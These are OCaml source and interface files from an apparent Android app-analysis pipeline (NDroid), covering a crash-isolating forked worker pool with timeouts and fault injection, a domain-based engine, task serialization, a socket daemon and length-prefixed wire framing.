             (fun s ->
               match (s, !victim) with
               | Some sl, None when sl.sl_alive -> victim := Some sl
               | _ -> ())
             slots;
           (match !victim with
            | Some sl ->
              incr injected_kills;
              (try Unix.kill sl.sl_pid Sys.sigkill
               with Unix.Unix_error _ -> ())
              (* death is then observed as EOF, exactly like a real crash *)
            | None -> ())
         | _ -> ()
       in
       let handle_result_frame sl payload =
         let t_w0 = now () in
         let parsed =
           match Json.of_string payload with
           | Error _ -> None
           (* the batch pool never requests streaming, but a shared worker
              binary could still emit trace frames — they are not results *)
           | Ok j when Json.member "trace" j <> None -> None
           | Ok j ->
             let id = Option.bind (Json.member "id" j) Json.int in
             let seconds =
               match Json.member "seconds" j with
               | Some (Json.Float f) -> f
               | Some (Json.Int i) -> float_of_int i
               | _ -> 0.0
             in
             let report =
               Option.map Verdict.report_of_json (Json.member "report" j)
             in
             (match (id, report) with
              | Some id, Some (Ok report) when id >= 0 && id < total ->
                (match Json.member "metrics" j with
                 | Some m -> Metrics.merge_json metrics m
                 | None -> ());
                Some (id, seconds, report)
              | _ -> None)
         in
         wire_time := !wire_time +. (now () -. t_w0);
         match parsed with
         | None -> ()
         | Some (id, seconds, report) ->
           analyze_cpu := !analyze_cpu +. seconds;
           incr from_workers;
           (match sl.sl_inflight with
            | Some t when t.Task.t_id = id ->
              sl.sl_inflight <- None;
              sl.sl_deadline <- infinity
            | _ -> ());
           record_resolved id report;
           inject_kill_if_due ()
       in
       (* Crashed and timed-out apps burned analysis time too: the worker
          never reported it (it died), so the parent measures from
          dispatch.  Without this, s_analyze_cpu only counted clean
          completions. *)
       let charge_lost_time sl =
         let spent = Float.max 0.0 (now () -. sl.sl_started) in
         analyze_cpu := !analyze_cpu +. spent;
         mobserve "task_seconds" spent
       in
       let handle_death sl =
         let why = reap_status sl in
         (match sl.sl_inflight with
          | Some task ->
            incr crashed;
            mcount "tasks" 1;
            mcount "worker_crashes" 1;
            charge_lost_time sl;
            record_resolved task.Task.t_id
              { Verdict.r_app = Task.subject_name task.Task.t_subject;
                r_analysis = Task.mode_name task.Task.t_mode;
                r_verdict = Verdict.Crashed why;
                r_meta = [] };
            sl.sl_inflight <- None
          | None -> ());
         respawn_if_needed sl.sl_shard
       in
       let handle_timeout sl =
         (try Unix.kill sl.sl_pid Sys.sigkill with Unix.Unix_error _ -> ());
         ignore (reap_status sl);
         (match sl.sl_inflight with
          | Some task ->
            incr timeouts;
            mcount "tasks" 1;
            mcount "worker_timeouts" 1;
            charge_lost_time sl;
            record_resolved task.Task.t_id
              { Verdict.r_app = Task.subject_name task.Task.t_subject;
                r_analysis = Task.mode_name task.Task.t_mode;
                r_verdict = Verdict.Timeout;
                r_meta = [] };
            sl.sl_inflight <- None
          | None -> ());
         respawn_if_needed sl.sl_shard
       in
       while !n_done < total do
         (* keep every live worker busy *)
         Array.iter
           (function
             | Some sl when sl.sl_alive && sl.sl_inflight = None ->
               dispatch sl
             | _ -> ())
           slots;
         let live =
           Array.to_list slots
           |> List.filter_map (function
                | Some sl when sl.sl_alive -> Some sl
                | _ -> None)
         in
         if live = [] then begin
           (* every worker is gone and nothing can be dispatched: resolve
              any leftovers as crashed rather than spinning forever *)
           List.iter
             (fun (task : Task.t) ->
               if not resolved.(task.Task.t_id) then begin
                 incr crashed;
                 record_resolved task.Task.t_id
                   { Verdict.r_app = Task.subject_name task.Task.t_subject;
                     r_analysis = Task.mode_name task.Task.t_mode;
                     r_verdict = Verdict.Crashed "worker pool exhausted";
                     r_meta = [] }
               end)
             pending
         end
         else begin
           let next_deadline =
             List.fold_left
               (fun acc sl -> Float.min acc sl.sl_deadline)
               infinity live
           in
           let dt =
             if next_deadline = infinity then 0.5
             else Float.max 0.0 (Float.min 0.5 (next_deadline -. now ()))
           in
           let fds = List.map (fun sl -> sl.sl_result_r) live in
           let readable, _, _ =
             try Unix.select fds [] [] dt
             with Unix.Unix_error (Unix.EINTR, _, _) -> ([], [], [])
           in
           List.iter
             (fun fd ->
               match List.find_opt (fun sl -> sl.sl_result_r = fd) live with
               | None -> ()
               | Some sl -> (
                 if sl.sl_alive then
                   match Wire.drain sl.sl_reader fd with
                   | `Frames frames ->
                     List.iter (handle_result_frame sl) frames
                   | `Eof frames ->
                     List.iter (handle_result_frame sl) frames;
                     handle_death sl))
             readable;
           (* per-app budgets *)
           let t = now () in
           Array.iter
             (function
               | Some sl when sl.sl_alive && sl.sl_deadline <= t ->
                 handle_timeout sl
               | _ -> ())
             slots
         end
       done;
       (* orderly shutdown: EOF on the task pipes, then reap *)
       Array.iter
         (function Some sl when sl.sl_alive -> bury sl | _ -> ())
         slots;
       ignore (Sys.signal Sys.sigpipe prev_sigpipe);
       steals := Shard_queue.steals queue);
  let collect =
    if pending = [] then 0.0 else now () -. t_collect0
  in
  let bytecodes, jni_crossings, focused_methods, skipped_bytecodes =
    counters_of_reports results
  in
  let evictions = Analysis.service_evictions service in
  mcount "respawns" !respawns;
  mcount "steals" !steals;
  mcount "evictions" evictions;
  mcount "phase_cache_us" (int_of_float (cache_pass *. 1e6));
  mcount "phase_digest_us" (int_of_float (!digest_time *. 1e6));
  mcount "phase_fork_us" (int_of_float (!fork_time *. 1e6));
  mcount "phase_wire_us" (int_of_float (!wire_time *. 1e6));
  mcount "phase_collect_us" (int_of_float (collect *. 1e6));
  ( results,
    { s_total = total;
      s_engine = Engine.name engine;
      s_from_workers = !from_workers;
      s_cache_hits = cache_hits;
      s_crashed = !crashed;
      s_timeouts = !timeouts;
      s_respawns = !respawns;
      s_steals = !steals;
      s_shed = 0;
      s_injected_kills = !injected_kills;
      s_evictions = evictions;
      s_wall = now () -. t_start;
      s_cache_pass = cache_pass;
      s_digest = !digest_time;
      s_fork = !fork_time;
      s_wire = !wire_time;
      s_collect = collect;
      s_analyze_cpu = !analyze_cpu;
      s_bytecodes = bytecodes;
      s_jni_crossings = jni_crossings;
      s_focused_methods = focused_methods;
      s_skipped_bytecodes = skipped_bytecodes;
      s_ring_overwritten =
        Metrics.value (Metrics.counter metrics "ring_overwritten");
      s_metrics = Metrics.to_json metrics } )

let run_inline ?cache ?obs ?progress tasks =
  validate_ids tasks;
  (* the in-process batch path is a thin client of the same
     request-oriented facade the daemon serves from *)
  let service = Analysis.service ?cache () in
  let total = List.length tasks in
  let results = Array.make total dummy_report in
  let n_done = ref 0 in
  List.iter
    (fun (task : Task.t) ->
      let report, _cached = Analysis.service_run service ?obs task in
      results.(task.Task.t_id) <- report;
      incr n_done;
      match progress with
      | Some f -> f ~done_:!n_done ~total
      | None -> ())
    tasks;
  results
