type t = Fork | Domains | Auto

let name = function
  | Fork -> "fork"
  | Domains -> "domains"
  | Auto -> "auto"

let of_name = function
  | "fork" -> Ok Fork
  | "domains" -> Ok Domains
  | "auto" -> Ok Auto
  | s -> Error (Printf.sprintf "unknown engine %S (fork|domains|auto)" s)

(* The two engines cannot share a process: OCaml 5's [Unix.fork] raises
   once any domain has ever been spawned, so [Auto] resolves to exactly
   one engine per run (batch) or per process (daemon) and never mixes.
   Anything that needs process isolation — injected faults, SIGKILL
   timeouts — keeps fork; everything else gets the in-process engine. *)
let resolve t ~needs_isolation =
  match t with
  | Fork -> Fork
  | Domains -> Domains
  | Auto -> if needs_isolation then Fork else Domains
