(** Dynamic execution of synthetic market apps.

    Boots a fresh device, installs the model's materialized Main class and
    native-method declarations plus intrinsic stubs for the generator's
    framework traffic, provides the app's native library, and drives
    [Main.onCreate] under full NDroid.  [focus] gates instrumentation to a
    static slice's focus set (the hybrid pipeline's focused pass); [obs]
    is the observability hub.  Returns the dynamic report with execution
    counters ([bytecodes], [jni_crossings], [focused_methods],
    [skipped_bytecodes]) in its metadata. *)

val run :
  ?obs:Ndroid_obs.Ring.t ->
  ?focus:Ndroid_report.Focus.t ->
  Ndroid_corpus.App_model.t ->
  Ndroid_report.Verdict.report
