(** The sharded worker pool: run the corpus through one of two engines and
    collect one {!Ndroid_report.Verdict.report} per task.

    The {b forked engine} ({!Engine.Fork}) gives the three guarantees a
    hostile market sweep needs:

    - {b crash isolation}: a worker dying on one APK yields a [Crashed]
      verdict for that app only; the pool reaps the corpse, respawns a
      fresh worker and keeps sweeping;
    - {b per-app timeouts}: a worker overrunning its wall-clock budget is
      killed, the app records [Timeout], and the replacement worker picks
      up the next task — pathological apps cost one budget each instead of
      wedging the sweep;
    - {b determinism}: results are ordered by task id and verdicts carry no
      timing, so a sweep's JSON is bit-identical across [--jobs] values and
      across runs.

    The {b domain engine} ({!Engine.Domains} → {!Domain_pool}) trades the
    first two away for the cold path: no fork, no Wire marshaling, no
    parent-side reassembly — tasks and verdicts move through shared
    memory, and all workers share one {!Analysis.service} warm layer.
    Determinism holds identically (same analyzers, same canonical
    reports).  Fault markers and timeouts are {e ignored} under a forced
    [Domains] engine, exactly as {!run_inline} ignores them.

    {!Engine.Auto} resolves per run: fork when the run needs process
    isolation (a timeout, an injected kill, any fault-marked task),
    domains otherwise.  The engines never mix inside one process —
    OCaml 5's [Unix.fork] refuses after a domain has been spawned — so a
    process that ran a domains sweep cannot run a forked one afterwards.

    Work is dealt over one {!Shard_queue} shard per worker with stealing
    under either engine, and an optional {!Cache} answers unchanged apps
    without dispatching them at all.  Timing lives in the aggregate
    {!stats}, per phase. *)

type config = {
  c_jobs : int;  (** worker processes or domains; >= 1 *)
  c_timeout : float option;
      (** per-app wall-clock budget, seconds (forked engine only) *)
  c_cache : Cache.t option;
  c_kill_worker_after : int option;
      (** fault injection: SIGKILL one live worker after that many worker
          results have arrived — proves no result is lost and nothing
          hangs when workers die under the pool (forked engine only) *)
  c_progress : (done_:int -> total:int -> unit) option;
  c_engine : Engine.t;  (** which engine executes cache misses *)
}

val config :
  ?jobs:int -> ?timeout:float -> ?cache:Cache.t -> ?kill_worker_after:int ->
  ?progress:(done_:int -> total:int -> unit) -> ?engine:Engine.t -> unit ->
  config
(** [engine] defaults to {!Engine.Fork} — the library keeps the isolating
    engine unless a caller opts in; the CLI defaults to [auto]. *)

type stats = {
  s_total : int;
  s_engine : string;
      (** the engine that executed this run's cache misses ("fork" or
          "domains"), after {!Engine.Auto} resolution *)
  s_from_workers : int;
      (** completed by the engine, either kind (includes crashed/timeout) *)
  s_cache_hits : int;
  s_crashed : int;  (** [Crashed] verdicts recorded by the pool *)
  s_timeouts : int;  (** [Timeout] verdicts recorded by the pool *)
  s_respawns : int;  (** replacement workers forked mid-sweep *)
  s_steals : int;  (** cross-shard steals in the work queue *)
  s_shed : int;
      (** requests refused by admission control.  Always [0] in a batch
          sweep — the batch queue is sized to the corpus — but the field
          rides alongside the other counters so batch and service stats
          share one shape ({!Server} sheds under overload). *)
  s_injected_kills : int;
  s_evictions : int;
      (** memo entries evicted by the service's second-chance cap — [0]
          unless the sweep outgrew {!Analysis.service}'s capacity *)
  s_wall : float;  (** whole sweep, seconds *)
  s_cache_pass : float;  (** phase: parent-side cache probe (includes
                             [s_digest]) *)
  s_digest : float;
      (** phase: deriving cache keys inside the cache pass — the
          attribution split that shows where a warm probe's time goes *)
  s_fork : float;  (** phase: forking workers (initial + respawns); [0.]
                       under the domain engine *)
  s_wire : float;
      (** phase: the forked engine's marshaling tax — serializing task
          frames, parsing result frames, re-absorbing worker metrics from
          JSON.  Identically [0.] under the domain engine, which is the
          cold-path win measured by the bench's engine rows *)
  s_collect : float;  (** phase: dispatch/select/collect loop *)
  s_analyze_cpu : float;
      (** sum of per-task analysis seconds measured inside workers — the
          serial-equivalent work the sweep performed *)
  s_bytecodes : int;
      (** Dalvik bytecodes executed across every dynamic analysis in the
          sweep (from the deterministic per-report counters); divide by
          [s_analyze_cpu] for the sweep's bytecodes/sec *)
  s_jni_crossings : int;
      (** JNI boundary crossings (Java→native calls + native→Java JNI
          function calls) across every dynamic analysis *)
  s_focused_methods : int;
      (** focus-set method entries observed across every focused (hybrid)
          dynamic run *)
  s_skipped_bytecodes : int;
      (** bytecodes interpreted before focus activation — the work hybrid
          runs performed untracked *)
  s_ring_overwritten : int;
      (** obs-ring events lost to wraparound across every worker in the
          sweep (the merged ["ring_overwritten"] counter) — the size of
          the post-hoc provenance gap, attributable instead of silent *)
  s_metrics : Ndroid_report.Json.t;
      (** the sweep-wide observability registry
          ({!Ndroid_obs.Metrics.to_json} shape): every worker's per-task
          registry — shipped in result frames (fork) or merged by
          reference (domains) — combined with the parent's own counters
          (cache hits/misses, respawns, steals, evictions, per-phase
          timings) and histograms ([task_seconds] covers clean, crashed
          {e and} timed-out apps) *)
}

val counters_of_reports :
  Ndroid_report.Verdict.report array -> int * int * int * int
(** [(bytecodes, jni_crossings, focused_methods, skipped_bytecodes)]
    summed from the reports' counter meta — for callers of {!run_inline},
    which returns no {!stats}. *)

val run : config -> Task.t list -> Ndroid_report.Verdict.report array * stats
(** Run every task; the returned array is indexed by position in the input
    list (= task id order if ids are dense).  Tasks must carry distinct
    [t_id]s equal to their list position. *)

val run_inline :
  ?cache:Cache.t -> ?obs:Ndroid_obs.Ring.t ->
  ?progress:(done_:int -> total:int -> unit) -> Task.t list ->
  Ndroid_report.Verdict.report array
(** Sequential in-process execution of the same tasks (no forking, so no
    crash isolation, no timeouts, and fault markers are ignored), built
    on {!Analysis.service_run} — the same request path the daemon
    serves.  The fast path for [--jobs 1] without a timeout;
    byte-identical reports to {!run} on non-faulting corpora.  [obs]
    observes every dynamic run in this process — the only mode in which
    one ring can see a whole sweep, which is what
    [ndroid analyze --trace] uses.  [progress] fires once per task,
    cache hit or computed, like {!config}'s [c_progress]. *)
