(** The in-process worker engine: a fixed set of OCaml 5 domains pulling
    tasks from a mutex-protected {!Shard_queue} (one shard per domain,
    cross-shard stealing preserved) and handing
    {!Ndroid_report.Verdict.report} values back through shared memory.

    This is what retires the fork + wire tax on the cold path: where the
    forked engine pays a [fork()], a JSON serialization of the task, a
    pipe write, a pipe read and a JSON parse of the verdict for every
    cache miss, a domain worker pays a queue pop and a list cons.  All
    domains share the one {!Analysis.service} (its own mutex makes that
    safe), so the warm layer deduplicates across workers mid-sweep.

    What this engine {e cannot} do — and why the forked engine stays:
    a domain shares the process, so injected fault markers are ignored
    (acting on [Crash]/[Kill] would kill the whole pipeline; this matches
    {!Pool.run_inline}) and there is no SIGKILL timeout — a wedged task
    wedges its domain.  {!Engine.Auto} routes work needing isolation to
    fork.  The two engines never share a process: OCaml 5's [Unix.fork]
    refuses once any domain has been spawned, so spawn this pool only in
    a process that will not fork afterwards. *)

type t

type completion = {
  dc_ticket : int;  (** the caller's id for the task, echoed back *)
  dc_report : Ndroid_report.Verdict.report;
  dc_seconds : float;  (** analysis wall time inside the domain *)
  dc_events : Ndroid_obs.Stream.event list;
      (** the task's throttled event stream — empty unless {!set_trace}
          armed a tap before the task was claimed *)
  dc_dropped : int;  (** throttle-suppressed events for this task *)
  dc_lost : int;  (** events lost to ring wraparound for this task *)
}

val create : ?domains:int -> service:Analysis.service -> unit -> t
(** Spawn [domains] (default 1) worker domains over [service] — capped at
    [Domain.recommended_domain_count ()]: domains share one runtime, so
    oversubscribing the cores multiplies stop-the-world minor-GC
    synchronization instead of adding throughput (forked workers, with
    their private heaps, have no such ceiling).  {!domains} reports the
    actual count. *)

val submit : t -> ticket:int -> Task.t -> unit
(** Enqueue one task; returns immediately.  Tickets are the caller's
    correlation ids and need not be dense.  Raises [Invalid_argument]
    after {!shutdown}. *)

val wait : t -> completion list
(** Block until a completion batch is ready (or nothing is in flight),
    and take everything completed so far, oldest first.  Workers wake
    this in batches (every 64 completions, and when the queue drains) so
    a batch collector does not contend with the worker domains for CPU;
    use {!drain} + {!notify_fd} for per-completion latency. *)

val drain : t -> completion list
(** Nonblocking {!wait}: take whatever has completed, oldest first.  Pair
    with {!notify_fd} in a select loop (the daemon). *)

val notify_fd : t -> Unix.file_descr
(** Readable whenever completions may be pending; {!drain} empties it. *)

val set_trace : t -> int option -> unit
(** Arm ([Some window], in event-seq units) or disarm ([None]) live
    streaming: each subsequently-claimed task drains its ring through a
    fresh per-task {!Ndroid_obs.Stream.tap} and returns the surviving
    events on its completion.  Tasks already mid-analysis keep the
    setting they started with. *)

val domains : t -> int
val steals : t -> int
(** Cross-shard steals performed by idle domains. *)

val metrics : t -> Ndroid_obs.Metrics.t list
(** One obs registry per worker domain, accumulated over its lifetime
    (tasks, task_seconds, task_bytecodes, analyzer counters).  Merge them
    with {!Ndroid_obs.Metrics.merge} once nothing is in flight — reading
    while workers are mid-task can observe a half-updated histogram. *)

val shutdown : t -> unit
(** Stop accepting work, wake every idle domain and join them all.  Tasks
    still queued are abandoned; a task mid-analysis completes first (and
    its completion is discarded with the pool). *)
