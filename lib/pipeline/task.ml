module Json = Ndroid_report.Json
module Market = Ndroid_corpus.Market

type mode = Static | Dynamic | Both | Hybrid

type subject =
  | Bundled of string
  | Market of { m_total : int; m_seed : int; m_permille : int option;
                m_id : int }

type fault = Crash | Kill | Hang | Sleep of float

type t = {
  t_id : int;
  t_subject : subject;
  t_mode : mode;
  t_fault : fault option;
}

let mode_name = function
  | Static -> "static"
  | Dynamic -> "dynamic"
  | Both -> "both"
  | Hybrid -> "hybrid"

let mode_of_name = function
  | "static" -> Some Static
  | "dynamic" -> Some Dynamic
  | "both" -> Some Both
  | "hybrid" -> Some Hybrid
  | _ -> None

let market_params ~total ~seed ~permille =
  { Market.total; seed; type1_permille = permille }

let market_model ~total ~seed ~permille id =
  Market.app (market_params ~total ~seed ~permille) id

let subject_name = function
  | Bundled name -> name
  | Market { m_total; m_seed; m_permille; m_id } ->
    (market_model ~total:m_total ~seed:m_seed ~permille:m_permille m_id)
      .Ndroid_corpus.App_model.package

let of_market_slice ?(mode = Static) (params : Market.params) =
  List.init params.Market.total (fun id ->
      { t_id = id;
        t_subject =
          Market
            { m_total = params.Market.total; m_seed = params.Market.seed;
              m_permille = params.Market.type1_permille; m_id = id };
        t_mode = mode;
        t_fault = None })

let subject_to_json = function
  | Bundled name ->
    Json.Obj [ ("kind", Json.Str "bundled"); ("name", Json.Str name) ]
  | Market { m_total; m_seed; m_permille; m_id } ->
    Json.Obj
      [ ("kind", Json.Str "market");
        ("total", Json.Int m_total);
        ("seed", Json.Int m_seed);
        ("permille",
         match m_permille with Some p -> Json.Int p | None -> Json.Null);
        ("id", Json.Int m_id) ]

let fault_to_json = function
  | None -> Json.Null
  | Some Crash -> Json.Str "crash"
  | Some Kill -> Json.Str "kill"
  | Some Hang -> Json.Str "hang"
  | Some (Sleep s) -> Json.Obj [ ("sleep", Json.Float s) ]

let to_json t =
  Json.Obj
    [ ("id", Json.Int t.t_id);
      ("subject", subject_to_json t.t_subject);
      ("mode", Json.Str (mode_name t.t_mode));
      ("fault", fault_to_json t.t_fault) ]

let ( let* ) = Result.bind

let req_int name j =
  match Option.bind (Json.member name j) Json.int with
  | Some i -> Ok i
  | None -> Error (Printf.sprintf "task is missing int field %S" name)

let fault_of_json = function
  | None | Some Json.Null -> Ok None
  | Some (Json.Str "crash") -> Ok (Some Crash)
  | Some (Json.Str "kill") -> Ok (Some Kill)
  | Some (Json.Str "hang") -> Ok (Some Hang)
  | Some (Json.Obj _ as o) -> (
    match Json.member "sleep" o with
    | Some (Json.Float s) -> Ok (Some (Sleep s))
    | Some (Json.Int s) -> Ok (Some (Sleep (float_of_int s)))
    | _ -> Error "bad task fault")
  | Some _ -> Error "bad task fault"

let subject_of_json s =
  match Option.bind (Json.member "kind" s) Json.str with
  | Some "bundled" -> (
    match Option.bind (Json.member "name" s) Json.str with
    | Some name -> Ok (Bundled name)
    | None -> Error "bundled subject is missing its name")
  | Some "market" ->
    let* total = req_int "total" s in
    let* seed = req_int "seed" s in
    let* mid = req_int "id" s in
    let permille = Option.bind (Json.member "permille" s) Json.int in
    Ok (Market { m_total = total; m_seed = seed; m_permille = permille;
                 m_id = mid })
  | _ -> Error "unknown subject kind"

let of_json j =
  let* id = req_int "id" j in
  let* mode =
    match Option.bind (Json.member "mode" j) Json.str with
    | Some m -> (
      match mode_of_name m with
      | Some m -> Ok m
      | None -> Error (Printf.sprintf "unknown task mode %S" m))
    | None -> Error "task is missing its \"mode\""
  in
  let* fault = fault_of_json (Json.member "fault" j) in
  let* subject =
    match Json.member "subject" j with
    | None -> Error "task is missing its \"subject\""
    | Some s -> subject_of_json s
  in
  Ok { t_id = id; t_subject = subject; t_mode = mode; t_fault = fault }
