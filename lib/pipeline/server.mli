(** The analysis daemon: a persistent-worker server loop behind a Unix
    socket, speaking the {!Proto} request/response protocol.

    Where {!Pool.run} answers "run this corpus once", [serve] answers
    "keep answering analysis requests": workers stay forked, the digest
    memo and native-summary cache stay warm in-process, and every
    [Submit] frame becomes exactly one terminal response — a [Verdict]
    (streamed as soon as it exists, cache hits immediately at admission)
    or a [Shed] when the bounded queue is full.  Overload degrades by
    refusing loudly, never by stalling or dropping.

    Fairness: admission queues each request on its client's
    {!Shard_queue} shard and dispatch drains shards round-robin, so a
    client saturating the daemon delays its own requests, not its
    neighbours'.

    Isolation is the pool's: a worker crashing (or overrunning its
    deadline and being killed) yields a [Crashed] / [Timeout] verdict
    for that one request, and the worker slot is respawned — the daemon
    itself never dies with a worker. *)

type config = {
  s_socket : string;  (** Unix-domain socket path; unlinked on shutdown *)
  s_jobs : int;  (** persistent worker processes *)
  s_cache : Cache.t option;  (** digest cache kept warm across requests *)
  s_depth : int;  (** max queued (not yet dispatched) requests — the
                      admission bound; beyond it, [Shed] *)
  s_max_clients : int;  (** concurrent connections (= queue shards) *)
  s_deadline : float option;  (** default per-request budget, seconds *)
  s_log : (string -> unit) option;  (** lifecycle lines (stderr in the CLI) *)
}

val config :
  socket:string -> ?jobs:int -> ?cache:Cache.t -> ?depth:int ->
  ?max_clients:int -> ?deadline:float -> ?log:(string -> unit) -> unit ->
  config

type stats = {
  sv_requests : int;  (** [Submit] frames admitted or shed *)
  sv_served : int;  (** terminal [Verdict]s produced (incl. crash/timeout) *)
  sv_cache_hits : int;  (** verdicts answered at admission, no dispatch *)
  sv_shed : int;  (** requests refused by the depth bound *)
  sv_crashed : int;  (** workers that died mid-request *)
  sv_timeouts : int;  (** requests killed at their deadline *)
  sv_respawns : int;  (** replacement workers forked *)
  sv_clients : int;  (** connections accepted over the lifetime *)
}

val serve : config -> stats
(** Run the daemon until SIGTERM or SIGINT, then shut down in order —
    pending client output flushed, workers buried, socket closed and
    unlinked, previous signal dispositions restored — and report what
    was served. *)
