(** The analysis daemon: a persistent server loop behind a Unix socket,
    speaking the {!Proto} request/response protocol.

    Where {!Pool.run} answers "run this corpus once", [serve] answers
    "keep answering analysis requests": workers stay alive, the digest
    memo and native-summary cache stay warm in-process, and every
    [Submit] frame becomes exactly one terminal response — a [Verdict]
    (streamed as soon as it exists, cache hits immediately at admission)
    or a [Shed] when the bounded queue is full.  Overload degrades by
    refusing loudly, never by stalling or dropping.

    {b Engines.}  The daemon runs exactly one {!Engine} for its whole
    life (the two cannot share a process — [Unix.fork] refuses once a
    domain exists).  [Fork] keeps persistent worker processes: crash
    isolation, per-request deadlines, fault injection.  [Domains] keeps
    worker domains over a shared {!Analysis.service}: no fork, no wire
    marshaling — but a submit that needs isolation (a fault marker or a
    per-request deadline) is {e shed} with an explanatory reason rather
    than silently mis-served.  [Auto] resolves at startup: fork iff a
    default deadline was configured, domains otherwise.

    {b Single-flight.}  Admission coalesces concurrent misses of one
    digest: the first [Submit] queues the analysis, colliding ones attach
    as waiters (answered with a ["coalesced"] [Progress]) and the one
    verdict fans out to every waiter.  A thundering herd of identical
    requests costs one analysis, under either engine.

    Fairness: admission queues each request on its client's
    {!Shard_queue} shard and dispatch drains shards round-robin, so a
    client saturating the daemon delays its own requests, not its
    neighbours'.

    {b Streaming.}  A connection that sends [Subscribe] becomes a live
    trace subscriber: while any subscriber (or a [Submit] with its trace
    flag) is attached, dispatched tasks carry a throttle window, the
    workers tap their obs rings ({!Ndroid_obs.Stream}), and the daemon
    fans the surviving events out as [Trace] frames — filtered and
    throttled per subscriber, through the same nonblocking buffered
    writes as everything else.  A subscriber that cannot keep up has
    whole trace frames shed (counted in [sv_trace_lost] and on the
    frames' cumulative counters); analyses are never blocked, and
    verdicts are never shed by the stream bound.

    Isolation under the forked engine is the pool's: a worker crashing
    (or overrunning its deadline and being killed) yields a [Crashed] /
    [Timeout] verdict for that one request, and the worker slot is
    respawned — the daemon itself never dies with a worker. *)

type config = {
  s_socket : string;  (** Unix-domain socket path; unlinked on shutdown *)
  s_jobs : int;  (** persistent worker processes or domains *)
  s_cache : Cache.t option;  (** digest cache kept warm across requests *)
  s_depth : int;  (** max queued (not yet dispatched) requests — the
                      admission bound; beyond it, [Shed] *)
  s_max_clients : int;  (** concurrent connections (= queue shards) *)
  s_deadline : float option;  (** default per-request budget, seconds
                                  (forces the forked engine) *)
  s_engine : Engine.t;  (** resolved once at startup; see above *)
  s_stream_buf : int;
      (** max buffered outbound bytes per client before a {e trace} frame
          is shed instead of queued (verdicts are never shed by this
          bound) — the slow-subscriber backpressure valve *)
  s_log : (string -> unit) option;  (** lifecycle lines (stderr in the CLI) *)
  s_stop : (unit -> bool) option;
      (** extra stop condition polled each loop turn (≤ 0.5 s latency) —
          lets a test host the daemon in a domain and stop it without
          signals *)
}

val config :
  socket:string -> ?jobs:int -> ?cache:Cache.t -> ?depth:int ->
  ?max_clients:int -> ?deadline:float -> ?engine:Engine.t ->
  ?stream_buf:int -> ?log:(string -> unit) -> ?stop:(unit -> bool) -> unit ->
  config
(** [engine] defaults to {!Engine.Fork} (library compatibility; the CLI
    passes [auto]); [stream_buf] to 256 KiB.
    @raise Invalid_argument on [~engine:Domains] with a [deadline] — a
    deadline is only enforceable by killing a forked worker. *)

type stats = {
  sv_requests : int;  (** [Submit] frames admitted or shed *)
  sv_served : int;  (** terminal [Verdict]s delivered, counting each
                        coalesced waiter (incl. crash/timeout) *)
  sv_cache_hits : int;  (** verdicts answered at admission, no dispatch *)
  sv_coalesced : int;  (** submits attached to an already-pending entry —
                           requests served minus analyses paid for *)
  sv_analyses : int;  (** analyses actually executed to a terminal state
                          (runs + crashes + timeouts); the single-flight
                          invariant is [sv_served = sv_cache_hits +
                          sv_coalesced + … per-entry fan-out] with one
                          analysis per distinct in-flight digest *)
  sv_shed : int;  (** requests refused (depth bound, or isolation needs
                      under the domain engine) *)
  sv_crashed : int;  (** workers that died mid-request (forked engine) *)
  sv_timeouts : int;  (** requests killed at their deadline (forked) *)
  sv_respawns : int;  (** replacement workers forked *)
  sv_evictions : int;  (** warm-layer memo evictions over the lifetime *)
  sv_clients : int;  (** connections accepted over the lifetime *)
  sv_subscribers : int;  (** [Subscribe] frames accepted over the lifetime *)
  sv_trace_events : int;
      (** events received from the engines' taps (before per-subscriber
          filtering) *)
  sv_trace_dropped : int;
      (** events suppressed by throttle windows — worker-side taps plus
          per-subscriber fan-out throttles *)
  sv_trace_lost : int;
      (** events shed rather than delivered: ring wraparound before the
          tap drained, plus whole trace frames refused by a slow
          subscriber's outbound bound.  Never blocks an analysis. *)
}

val serve : config -> stats
(** Run the daemon until SIGTERM or SIGINT (or [s_stop] returns [true]),
    then shut down in order — pending client output flushed, workers
    buried (forked) or joined (domains), socket closed and unlinked,
    previous signal dispositions restored — and report what was
    served. *)
