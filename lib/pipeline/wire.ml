let header_len = 4

(* v2 added the streaming-trace messages (Subscribe/Trace) and the
   Submit "trace" flag; a v1 peer would misread those frames, so the
   version byte went up. *)
let protocol_version = 2

let encode_len n =
  let b = Bytes.create header_len in
  Bytes.set b 0 (Char.chr ((n lsr 24) land 0xff));
  Bytes.set b 1 (Char.chr ((n lsr 16) land 0xff));
  Bytes.set b 2 (Char.chr ((n lsr 8) land 0xff));
  Bytes.set b 3 (Char.chr (n land 0xff));
  b

let decode_len b off =
  (Char.code (Bytes.get b off) lsl 24)
  lor (Char.code (Bytes.get b (off + 1)) lsl 16)
  lor (Char.code (Bytes.get b (off + 2)) lsl 8)
  lor Char.code (Bytes.get b (off + 3))

let write_all fd b =
  let len = Bytes.length b in
  let off = ref 0 in
  while !off < len do
    off := !off + Unix.write fd b !off (len - !off)
  done

let write_frame fd payload =
  let n = String.length payload in
  let b = Bytes.create (header_len + n) in
  Bytes.blit (encode_len n) 0 b 0 header_len;
  Bytes.blit_string payload 0 b header_len n;
  write_all fd b

let read_exactly fd n =
  let b = Bytes.create n in
  let off = ref 0 in
  let eof = ref false in
  while (not !eof) && !off < n do
    match Unix.read fd b !off (n - !off) with
    | 0 -> eof := true
    | k -> off := !off + k
  done;
  if !eof then None else Some b

let read_frame fd =
  match read_exactly fd header_len with
  | None -> None
  | Some hdr -> (
    match read_exactly fd (decode_len hdr 0) with
    | None -> None
    | Some payload -> Some (Bytes.to_string payload))

(* ---- incremental parent-side reader ---- *)

type reader = { mutable buf : Bytes.t; mutable used : int }

let create_reader () = { buf = Bytes.create 8192; used = 0 }

let ensure_capacity r extra =
  let need = r.used + extra in
  if Bytes.length r.buf < need then begin
    let bigger = Bytes.create (max need (2 * Bytes.length r.buf)) in
    Bytes.blit r.buf 0 bigger 0 r.used;
    r.buf <- bigger
  end

let completed_frames r =
  let frames = ref [] in
  let off = ref 0 in
  let continue = ref true in
  while !continue do
    if r.used - !off < header_len then continue := false
    else begin
      let len = decode_len r.buf !off in
      if r.used - !off - header_len < len then continue := false
      else begin
        frames := Bytes.sub_string r.buf (!off + header_len) len :: !frames;
        off := !off + header_len + len
      end
    end
  done;
  if !off > 0 then begin
    Bytes.blit r.buf !off r.buf 0 (r.used - !off);
    r.used <- r.used - !off
  end;
  List.rev !frames

let drain r fd =
  ensure_capacity r 65536;
  match Unix.read fd r.buf r.used (Bytes.length r.buf - r.used) with
  | 0 -> `Eof (completed_frames r)
  | n ->
    r.used <- r.used + n;
    `Frames (completed_frames r)
